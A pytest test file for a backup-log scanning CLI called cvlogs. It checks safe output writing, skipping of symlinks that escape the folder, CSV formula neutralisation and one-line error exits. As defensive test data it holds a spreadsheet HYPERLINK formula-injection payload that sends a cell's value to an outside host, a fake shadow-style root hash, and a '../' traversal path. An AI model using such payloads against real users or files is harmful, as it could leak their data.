"""The logs are never written; outputs appear whole or not at all; nothing is shown as a formula;
every failure of a dependency or of the machine is one line and a documented exit status."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cvlogs.cli import app
from cvlogs.errors import CvlogsError
from cvlogs.events_output import csv_cell
from cvlogs.output import text_output
from cvlogs.parsing import scan_paths

from .conftest import write_log

runner = CliRunner()
CONNECT = "CAmazonInfo::Connect() - Connecting to Url=[default], username[arn:aws:iam::444455556666:role/R]"
LOG = f"1 a 11/20 10:00:00 7 {CONNECT}\n1 a 11/20 10:00:01 7 AmazonConnection::ValidateCredentials() - ok\n"


def _digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.rglob("*") if p.is_file()
    }


@pytest.mark.parametrize(
    ("command", "target"),
    [
        (["events", "{logs}/vsbkp.log", "-f", "csv"], "{logs}/vsbkp.log"),
        (["scan", "{logs}/cvd.log"], "{logs}/cvd.log"),
        (["scan", "{logs}", "-f", "markdown"], "{logs}/ticket.md"),
        (["events", "{logs}", "-f", "jsonl"], "{logs}/sub/../vsbkp.log"),
        (["events", "{logs}", "-f", "parquet"], "{logs}/events"),
    ],
)
def test_an_output_that_is_a_log_or_inside_a_scanned_folder_is_refused(
    tmp_path: Path, command: list[str], target: str
) -> None:
    """-o naming a log being read, or any path inside a folder being read: exit 2, one line, and
    every log unchanged (``events vsbkp.log -o vsbkp.log`` once truncated the log)."""
    logs = tmp_path / "logs"
    write_log(logs, "vsbkp.log", LOG)
    write_log(logs, "cvd.log", LOG)
    (logs / "sub").mkdir()
    before = _digest(logs)
    arguments = [part.format(logs=logs) for part in command] + ["-o", target.format(logs=logs), "--jobs", "1"]
    result = runner.invoke(app, arguments)
    assert result.exit_code == 2, result.output
    assert result.stderr.count("\n") == 1
    assert "refusing to write" in result.stderr
    assert _digest(logs) == before


def test_an_output_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    """A write that fails half-way leaves the old file and no partial file beside it."""
    target = tmp_path / "report.json"
    target.write_text("old")

    def interrupted() -> None:
        with text_output(str(target)) as handle:
            handle.write("half of a report")
            raise RuntimeError("interrupted")

    with pytest.raises(RuntimeError):
        interrupted()
    assert target.read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]
    with text_output(str(target)) as handle:
        handle.write("new")
    assert target.read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_a_symlink_out_of_the_scanned_folder_is_skipped(tmp_path: Path) -> None:
    """cvd.log -> a file outside the folder is skipped with its reason, unless --follow-symlinks."""
    outside = write_log(tmp_path / "elsewhere", "secret.txt", "1 a 11/20 10:00:00 7 x::y() - root:$6$hash:19000\n")
    logs = tmp_path / "logs"
    write_log(logs, "vsbkp.log", LOG)
    (logs / "cvd.log").symlink_to(outside)
    (logs / "vsrst.log").symlink_to(logs / "vsbkp.log")  # inside: read
    result = runner.invoke(app, ["scan", str(logs), "-f", "json", "--jobs", "1", "--no-redact"])
    report = json.loads(result.stdout)
    assert "root:$6$hash" not in result.stdout
    assert sorted(f["path"] for f in report["files"]) == ["vsbkp.log", "vsrst.log"]
    assert "out of the scanned folder" in {s["path"]: s["reason"] for s in report["skipped"]}["cvd.log"]
    followed = runner.invoke(app, ["scan", str(logs), "-f", "json", "--jobs", "1", "--follow-symlinks"])
    assert "cvd.log" in [f["path"] for f in json.loads(followed.stdout)["files"]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_never_start_a_formula(tmp_path: Path, start: str) -> None:
    """A message starting with = + - or @ gets a leading ' (--raw-csv writes it as logged)."""
    formula = f'{start}HYPERLINK("http://x/?"&A1,"open")'
    write_log(tmp_path / "logs", "vsbkp.log", f"1 a 11/20 10:00:00 7 x::y() {formula}\n")
    result = runner.invoke(app, ["events", str(tmp_path / "logs"), "--all", "-f", "csv", "--jobs", "1"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["message"].startswith("'")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    raw = runner.invoke(app, ["events", str(tmp_path / "logs"), "--all", "-f", "csv", "--jobs", "1", "--raw-csv"])
    assert next(csv.DictReader(io.StringIO(raw.stdout)))["message"][0] == start


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_quotes_every_formula_start(start: str) -> None:
    """Tab and CR too (the header parser strips them from messages, but a path or host may start so)."""
    assert csv_cell(f"{start}1+1").startswith("'")
    assert csv_cell("plain") == "plain"


def test_a_folder_1000_levels_deep_is_walked() -> None:
    """No RecursionError: the walk keeps its own stack.  (Built outside pytest's tmp_path, whose
    clean-up recurses, and removed bottom-up here.)"""
    top = folder = Path(tempfile.mkdtemp(prefix="cvlogs-deep-"))
    try:
        for _ in range(1000):
            folder = folder / "d"
            folder.mkdir()  # one by one: mkdir(parents=True) recurses too
        write_log(folder, "vsbkp.log", LOG)
        result = scan_paths([top])
        assert len(result.files) + len(result.skipped) == 1
    except OSError:
        pytest.skip("the file system refuses such a deep path")
    finally:
        (folder / "vsbkp.log").unlink(missing_ok=True)
        while folder != top.parent:
            folder.rmdir()
            folder = folder.parent


def test_urls_are_written_through_fsspec(tmp_path: Path) -> None:
    """-o memory://... is written by fsspec (never a local folder named 'memory:')."""
    fsspec = pytest.importorskip("fsspec")
    write_log(tmp_path / "logs", "vsbkp.log", LOG)
    os.chdir(tmp_path)
    result = runner.invoke(app, ["scan", "logs", "-f", "json", "-o", "memory://out/report.json", "--jobs", "1"])
    assert result.exit_code == 0, result.output
    with fsspec.open("memory://out/report.json", "r") as handle:
        assert json.load(handle)["summary"]["files"] == 1
    parquet = runner.invoke(app, ["events", "logs", "-f", "parquet", "-o", "memory://out/events", "--jobs", "1"])
    assert parquet.exit_code == 0, parquet.output
    assert fsspec.filesystem("memory").find("/out/events")
    assert not (tmp_path / "memory:").exists()


def test_an_s3_output_without_s3fs_is_one_line(tmp_path: Path) -> None:
    """-o s3://... either goes through fsspec or is refused in one line; no stray 's3:' folder."""
    write_log(tmp_path / "logs", "vsbkp.log", LOG)
    os.chdir(tmp_path)
    result = runner.invoke(app, ["events", "logs", "-f", "parquet", "-o", "s3://bucket/out/", "--jobs", "1"])
    assert result.exit_code in (2, 3), result.output
    assert result.stderr.count("\n") == 1
    assert not (tmp_path / "s3:").exists()


@pytest.mark.parametrize("address", ["nonsense", "tcp://127.0.0.1"])
def test_a_bad_scheduler_is_one_line_and_exit_3(tmp_path: Path, address: str) -> None:
    """--scheduler nonsense (Dask's ValueError) is one line on stderr and exit 3."""
    pytest.importorskip("distributed")
    write_log(tmp_path / "logs", "vsbkp.log", LOG)
    result = runner.invoke(app, ["scan", str(tmp_path / "logs"), "--scheduler", address])
    assert result.exit_code == 3, result.output
    assert result.stderr.count("\n") == 1
    assert "Traceback" not in result.output


def test_a_full_disk_under_stdout_is_one_line_and_exit_3(tmp_path: Path) -> None:
    """stdout on /dev/full: the report is lost, and cvlogs says so instead of exiting 0 or 1."""
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    write_log(tmp_path / "logs", "vsbkp.log", LOG * 2000)
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "cvlogs.cli", "events", str(tmp_path / "logs"), "--all", "-f", "jsonl", "-j", "1"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert done.returncode == 3, done.stderr
    assert done.stderr.strip().count("\n") == 0
    assert "No space left on device" in done.stderr


def test_errors_carry_their_exit_status() -> None:
    """2 for the user to fix, 3 for a dependency (documented in the README and cvlogs.errors)."""
    from cvlogs.errors import Broken, DependencyFailed  # noqa: PLC0415

    assert CvlogsError.exit_status == Broken.exit_status == 2
    assert DependencyFailed.exit_status == 3


class _NoCredentials(Exception):
    """What botocore raises without credentials (a type of its own, not an OSError)."""


def _failing_filesystem(fail_listing: bool) -> type:
    fsspec = pytest.importorskip("fsspec")

    class Failing(fsspec.AbstractFileSystem):  # type: ignore[misc, name-defined]
        protocol = "failing"

        def isdir(self, path: str) -> bool:
            if fail_listing:
                raise _NoCredentials("Unable to locate credentials")
            return True

        def find(self, path: str, detail: bool = False, **kwargs: object) -> object:
            return {f"{path.rstrip('/')}/vsbkp.log": {"name": "vsbkp.log", "type": "file", "size": 10}}

        def _open(self, path: str, mode: str = "rb", **kwargs: object) -> object:
            raise _NoCredentials("Unable to locate credentials")

    return Failing


@pytest.mark.parametrize("fail_listing", [True, False])
def test_a_file_system_that_fails_is_one_line_and_exit_3(monkeypatch: pytest.MonkeyPatch, fail_listing: bool) -> None:
    """S3 without credentials (or unreachable) while listing or while reading: one line, exit 3
    (it was 95 to 166 lines of traceback)."""
    fsspec = pytest.importorskip("fsspec")
    fsspec.register_implementation("failing", _failing_filesystem(fail_listing), clobber=True)
    result = runner.invoke(app, ["scan", "failing://bucket/logs/", "--jobs", "1", "-f", "json"])
    assert result.exit_code == 3, result.output
    assert result.stderr.count("\n") == 1
    assert "Unable to locate credentials" in result.stderr


def test_a_device_or_a_symlink_as_output_is_written_not_replaced(tmp_path: Path) -> None:
    """-o naming a device is written in place (never renamed over: that replaced the device
    node); a full device is exit 3; -o through a symlink replaces the file, keeps the link."""
    write_log(tmp_path / "logs", "vsbkp.log", LOG)
    link, real = tmp_path / "link.json", tmp_path / "real.json"
    real.write_text("old")
    link.symlink_to(real)
    result = runner.invoke(app, ["scan", str(tmp_path / "logs"), "-f", "json", "-o", str(link), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    assert link.is_symlink()
    assert json.loads(real.read_text())["summary"]["files"] == 1
    if os.geteuid() != 0:
        pytest.skip("making device nodes needs root")
    null, full = tmp_path / "null", tmp_path / "full"
    os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    os.mknod(full, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    assert runner.invoke(app, ["scan", str(tmp_path / "logs"), "-o", str(null), "--jobs", "1"]).exit_code == 0
    failed = runner.invoke(app, ["scan", str(tmp_path / "logs"), "-f", "json", "-o", str(full), "--jobs", "1"])
    assert failed.exit_code == 3, failed.output
    assert "No space left on device" in failed.stderr
    assert null.is_char_device()
    assert full.is_char_device()
